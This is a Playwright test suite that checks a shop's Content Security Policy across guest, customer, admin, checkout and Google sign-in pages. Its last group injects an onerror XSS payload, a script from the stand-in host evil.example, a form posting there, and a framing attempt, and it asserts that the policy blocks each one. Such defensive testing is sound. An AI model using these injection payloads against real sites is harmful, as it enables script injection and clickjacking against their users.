import type { Page } from "@playwright/test";
import { expect, test } from "../fixtures";
import { GooglePage } from "../pages/google-page";
import { SignInPage } from "../pages/sign-in-page";
import { shopUrl } from "../support/env";
import { Newcomer, people } from "../support/newcomer";
import { placeOrder, tokenOf } from "../support/orders";
import { watchPolicy } from "../support/policy-watch";
import { staticPaths } from "../support/site";
import type { Tee } from "../support/tees";

// Opens every type of page in a real browser: its content policy must not block anything that it needs.

test.use({ tolerated: [/404/] });

const open = [
  "/browse?q=tee",
  "/products?q=tee&size=M",
  "/cart",
  "/find-order",
  "/ref/ASHA10",
  "/custom-design",
];
const missing = [
  "/no-such-page",
  "/products/no-such-tee-1",
  "/checkout/no-such",
  "/admin/no-such",
  "/wishlist/none",
];
const ofGuests = ["/auth", "/auth?tab=register", "/login", "/auth-callback", "/update-password", "/checkout"];
const ofCustomers = [
  "/account",
  "/account/addresses",
  "/account/addresses/new",
  "/account/privacy",
  "/account/profile",
  "/checkout",
  "/dashboard",
  "/orders",
  "/wishlist",
];

async function visit(page: Page, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 }).first(), path).toBeVisible();
    await waitUntilAlive(page, path);
  }
}

/** Waits until React has hydrated the page, so that its scripts have run. */
async function waitUntilAlive(page: Page, path: string): Promise<void> {
  const isAlive = () =>
    Object.keys(document.querySelector("main") ?? document.body).some((key) => key.startsWith("__react"));
  await page.waitForFunction(isAlive).catch(() => {
    throw new Error(`the scripts of ${path} did not run`);
  });
}

async function orderPages(tee: Tee, email: string): Promise<string[]> {
  const orderId = await placeOrder(tee, { email });
  const token = await tokenOf(orderId);
  return [`/order-details/${orderId}?token=${token}`, `/order-success?order=${orderId}&token=${token}`];
}

test("the policy blocks nothing on a guest's pages, in Google sign-in and in the payment window", async ({
  shop,
  tee,
  buyer,
  page,
  context,
}) => {
  const { blocked, reports } = await watchPolicy(context);
  await visit(page, [...(await staticPaths()), ...open, ...missing, ...ofGuests]);
  await visit(page, await orderPages(tee, buyer.email));

  await shop.reachCheckout(tee, buyer);
  // After a link from the cart the static page's policy still applies. A reload applies the checkout's own.
  await page.reload();
  await shop.checkout.fill(buyer);
  await shop.checkout.payOnline();
  await shop.razorpay.succeed();
  await shop.success.expectConfirmed();

  await new SignInPage(page).open();
  await page.getByRole("button", { name: "Continue with Google" }).click();
  await new GooglePage(page).enter(new Newcomer());
  await page.waitForURL("**/dashboard");
  expect(blocked).toEqual([]);
  expect(reports).toEqual([]);
});

test("the policy blocks nothing on the pages of customers and staff", async ({ page, context }) => {
  const { blocked, reports } = await watchPolicy(context);
  const screen = new SignInPage(page);
  await screen.open();
  await screen.login(people.asha);
  await page.waitForURL("**/dashboard");
  await visit(page, [...ofCustomers, "/", "/products", "/cart"]);
  await context.clearCookies();
  await screen.open();
  await screen.login(people.admin);
  await page.waitForURL("**/admin");
  await visit(page, ["/admin", "/admin/categories/new"]);
  // Typing fetches what checks the form.
  await page.getByLabel("Name", { exact: true }).fill("Aprons");
  await page.getByLabel("Address").fill("Not an address");
  await page.getByRole("button", { name: "Add category" }).click();
  await expect(page.getByText(/single hyphens/).first()).toBeVisible();
  expect(blocked).toEqual([]);
  expect(reports).toEqual([]);
});

test.describe("what the policies block", () => {
  test.use({ tolerated: [/Content Security Policy|404|Framing|ERR_BLOCKED/] });

  test("a live page runs no script without its nonce, and the browser reports it", async ({
    page,
    context,
  }) => {
    const { blocked, reports } = await watchPolicy(context);
    await page.goto("/auth");
    await page.evaluate(() => {
      document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.hacked = true">');
    });
    await expect.poll(() => blocked.some((what) => /script-src-attr/.test(what))).toBe(true);
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    await expect.poll(() => reports.length).toBeGreaterThan(0);
  });

  test("a static page loads no script from another site, and posts no form to one", async ({
    page,
    context,
  }) => {
    const { blocked } = await watchPolicy(context);
    await page.goto("/");
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.body.append(script);
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    });
    await expect
      .poll(() => blocked.map((what) => what.replace(/ blocked.*/, "")).sort())
      .toEqual(["/: form-action", "/: script-src-elem"]);
    expect(page.url()).toBe(`${shopUrl}/`);
  });

  test("no other site can frame the checkout", async ({ page }) => {
    await page.route("https://evil.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${shopUrl}/checkout"></iframe>` }),
    );
    await page.goto("https://evil.example/");
    await page.waitForTimeout(500);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(framed?.url() ?? "").not.toContain("/checkout");
  });
});
